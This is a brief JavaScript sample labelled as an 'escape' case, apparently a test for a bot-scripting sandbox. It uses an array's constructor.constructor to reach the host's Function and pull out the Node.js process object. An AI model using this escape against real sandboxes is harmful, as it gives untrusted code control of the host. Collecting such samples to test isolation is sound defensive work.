// family: escape
// an array of the host gives the host's Function
async function main (bot) {
  abuse(bot, bot.findBlocks({ matching: () => true, maxDistance: 2, count: 2 }).constructor.constructor('return process')())
}
